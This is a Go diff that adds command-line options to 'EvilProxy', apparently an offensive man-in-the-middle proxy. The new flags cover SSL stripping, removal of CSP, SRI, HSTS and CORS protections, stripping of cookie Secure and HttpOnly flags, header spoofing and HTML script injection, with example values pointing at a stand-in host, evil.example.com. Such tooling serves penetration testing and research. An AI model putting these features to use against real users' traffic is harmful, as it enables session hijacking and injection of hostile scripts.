@@ -1,7 +1,14 @@
 package core
 
+import (
+	"time"
+)
+
 // Options for configuring EvilProxy
 type Options struct {
+	Config  string `long:"config" description:"YAML configuration file setting options, plugins, passthrough hosts and replacement rules (reloaded on SIGHUP or change)" env:"EVPX_CONFIG" no-ini:"true"`
+	Profile string `long:"profile" description:"Named profile from the configuration file" env:"EVPX_PROFILE" no-ini:"true"`
+
 	Address string `short:"a" long:"address" description:"Address to bind MITM server" default:"localhost"`
 	Port    string `short:"p" long:"port" description:"Port on which to bind MITM server" default:"9001"`
 	Mode    string `short:"m" long:"mode" description:"Proxy mode" default:"https" options:"https" options:"socks"`
@@ -11,8 +18,81 @@ type Options struct {
 
 	CertDir string `long:"cert-dir" description:"directory for TLS certificate outputs" default:"./certs"`
 
+	DisableHTTP2       bool   `long:"disable-http2" description:"Disable HTTP/2 negotiation on bumped TLS connections"`
+	HTTP2MatchUpstream bool   `long:"http2-match-upstream" description:"Only negotiate HTTP/2 with clients where the upstream server supports it"`
+	HTTP2Push          string `long:"http2-push" description:"Handling of HTTP/2 server push" default:"drop" choice:"drop" choice:"forward"`
+
+	PreserveHeaders bool `long:"preserve-headers" description:"Preserve header wire order and casing in both directions (HTTP/1.x only, disables HTTP/2, forwards Accept-Encoding so body plugins see compressed bodies)"`
+
+	ViaPolicy          string `long:"via-policy" description:"Handling of Via headers on forwarded requests" default:"pass" choice:"pass" choice:"add" choice:"strip" choice:"spoof"`
+	ViaValue           string `long:"via-value" description:"Via value used when adding or spoofing Via headers" default:"evpx"`
+	ForwardedPolicy    string `long:"forwarded-policy" description:"Handling of Forwarded and X-Forwarded-For/Proto/Host headers on forwarded requests" default:"pass" choice:"pass" choice:"add" choice:"strip" choice:"spoof"`
+	ForwardedSpoofAddr string `long:"forwarded-spoof-addr" description:"Client address used when spoofing Forwarded headers" default:"127.0.0.1"`
+
+	StreamTypes []string      `long:"stream-type" description:"Content type(s) streamed to clients without buffering (bodies are not passed to plugins)" default:"text/event-stream" default:"application/x-ndjson" default:"multipart/x-mixed-replace"`
+	StreamDelay time.Duration `long:"stream-delay" description:"Time for which responses of unknown length (ie. chunked long-polls) are buffered for plugins before these are streamed to clients as they arrive, not applied to HTML, JavaScript or CSS (0 to always buffer)" default:"0"`
+	StreamSize  int64         `long:"stream-size" description:"Size (in bytes) above which response bodies are streamed to clients rather than buffered for plugins (0 for no limit)" default:"0"`
+
+	GRPCLog          bool     `long:"grpc-log" description:"Log decoded gRPC messages"`
+	ProtoDescriptors []string `long:"proto-descriptors" description:"Compiled protobuf descriptor set(s) for decoding gRPC messages"`
+
+	TUI bool `long:"tui" description:"Run the terminal interface for flow inspection and interception"`
+
+	AdminAddress    string `long:"admin-address" description:"Address to bind the admin API and web UI (disabled if unset)"`
+	AdminToken      string `long:"admin-token" description:"Token required to access the admin API (generated if unset)" env:"EVPX_ADMIN_TOKEN"`
+	CaptureLimit    int    `long:"capture-limit" description:"Number of completed flows retained for the admin API and terminal interface" default:"1000"`
+	CaptureMaxBytes int64  `long:"capture-max-bytes" description:"Total size of bodies retained for the admin API and terminal interface (0 for unlimited)" default:"268435456"`
+
+	Session string `long:"session" description:"Session file to which completed flows are appended, see 'session open'"`
+
+	LogFile   string `long:"log-file" description:"File to which completed flows are written as JSON lines (disabled if unset)"`
+	LogFilter string `long:"log-filter" description:"Filter expression selecting flows to be written to the log file (ie. host ~ \"api\" && status >= 400)"`
+	LogBodies bool   `long:"log-bodies" description:"Include request and response bodies in the log file"`
+
+	Passthrough  []string `long:"passthrough" description:"Host pattern(s) for which TLS connections are tunnelled rather than intercepted"`
+	Replacements []string `long:"replace" description:"Response body replacement(s) as regexp=>replacement, applied in order (or regexp:replacement, split on the last colon)"`
+
+	Breakpoints      []string      `long:"breakpoint" description:"Breakpoint(s) at which to pause matching flows (ie. host=*.example.com,path=/api/*,method=POST,phase=request|response|both,filter=<expression>)"`
+	InterceptTimeout time.Duration `long:"intercept-timeout" description:"Time after which paused flows have the default action applied (0 to wait indefinitely)" default:"5m"`
+	InterceptDefault string        `long:"intercept-default" description:"Action applied to paused flows on timeout" default:"forward" choice:"forward" choice:"drop"`
+
+	Scripts       []string      `long:"script" description:"Lua script(s) defining onRequest and onResponse hooks, reloaded on change"`
+	ScriptTimeout time.Duration `long:"script-timeout" description:"Time allowed for each script hook call" default:"100ms"`
+	ScriptMemory  int           `long:"script-memory" description:"Memory (in bytes) available to each script call, not including the flow (0 for unlimited)" default:"67108864"`
+
+	External        []string      `long:"external" description:"External plugin(s) as a command run with stdio (ie. 'python3 plugin.py'), or a unix:/path or tcp:host:port socket address"`
+	ExternalTimeout time.Duration `long:"external-timeout" description:"Time allowed for each external plugin call" default:"1s"`
+	ExternalPolicy  string        `long:"external-policy" description:"Handling of flows where an external plugin call fails" default:"open" choice:"open" choice:"closed"`
+
+	Scopes map[string]string `long:"scope" description:"Plugin scope(s) as name:key=value,... with keys host, path, method, type and status (multiple values separated by |), and optionally a final filter=<expression> (ie. sri:host=*.example.com,type=text/html)"`
+	Orders map[string]string `long:"order" description:"Plugin order(s) as name:key=value,... with keys priority (lowest first) and phase (pre-request, post-request, pre-response and/or post-response, separated by |) (ie. replace:phase=post-response,priority=10)"`
+
 	BlockHSTS bool `long:"block-hsts" description:"Block HSTS headers through the proxy"`
-	BlockCORS bool `long:"block-cors" description:"Block CORS headers through the proxy"`
+	BlockCORS bool `long:"block-cors" description:"Allow all cross origin requests, rewriting CORS headers and answering preflights through the proxy (see --cors-origin)"`
 	BlockSRI  bool `long:"block-sri" description:"Block SRI tags through the proxy"`
+	BlockCSP  bool `long:"block-csp" description:"Block (or relax, see --csp-origin) CSP headers and meta tags through the proxy"`
 	BlockAll  bool `short:"b" long:"block-all" description:"Enable all anti-security features"`
+
+	SRIMode string `long:"sri-mode" description:"Handling of SRI integrity attributes, strip removes these and recompute substitutes hashes of resources as modified by plugins (fetching resources not yet seen through the proxy)" default:"strip" choice:"strip" choice:"recompute"`
+
+	CORSOrigin        string        `long:"cors-origin" description:"Origin allowed in CORS responses, reflect to allow the request origin, * or a specific origin" default:"reflect"`
+	CORSNoCredentials bool          `long:"cors-no-credentials" description:"Do not allow credentialed CORS requests"`
+	CORSMethods       []string      `long:"cors-method" description:"Method(s) allowed in CORS preflight responses (default: the requested method)"`
+	CORSHeaders       []string      `long:"cors-header" description:"Header(s) allowed in CORS preflight responses (default: the requested headers)"`
+	CORSExpose        []string      `long:"cors-expose" description:"Header(s) exposed to scripts in CORS responses (default: all response headers)"`
+	CORSMaxAge        time.Duration `long:"cors-max-age" description:"Time for which CORS preflight responses are cached by clients" default:"2h"`
+	CORSPreflight     string        `long:"cors-preflight" description:"Handling of CORS preflight requests, respond answers these in the proxy and forward passes these upstream" default:"respond" choice:"respond" choice:"forward"`
+
+	CSPOrigins []string `long:"csp-origin" description:"Origin(s) added to CSP script sources rather than stripping policies (ie. https://evil.example.com)"`
+	CSPNonce   string   `long:"csp-nonce" description:"Nonce added to CSP script sources rather than stripping policies, allowing scripts with this nonce"`
+
+	Inject       string `long:"inject" description:"Content injected into HTML responses (ie. '<script src=\"https://evil.example.com/x.js\"></script>'), or @file to read content from a file"`
+	InjectAnchor string `long:"inject-anchor" description:"Position at which content is injected" default:"head-end" choice:"head-end" choice:"body-start" choice:"body-end"`
+	InjectAsset  string `long:"inject-asset" description:"Local file served at --inject-path on all hosts (content defaults to a script tag loading this asset)"`
+	InjectPath   string `long:"inject-path" description:"Path at which the injected asset is served" default:"/__evpx/inject.js"`
+
+	SSLStrip bool `long:"ssl-strip" description:"Downgrade HTTPS links, form actions and redirects to HTTP, upgrading plain requests to downgraded hosts when forwarded (enables --block-hsts)"`
+
+	CookieRules []string `long:"cookie" description:"Cookie rule(s) as key=value,... with keys name and host (patterns, multiple separated by |), secure and httponly (add or strip), samesite (strip, none, lax or strict), domain and path (strip or a value) and expires (session or a duration) (ie. name=session*,host=*.example.com,secure=strip,samesite=lax)"`
+	CookieLog   bool     `long:"cookie-log" description:"Log the cookie jar of each host as cookies are set"`
 }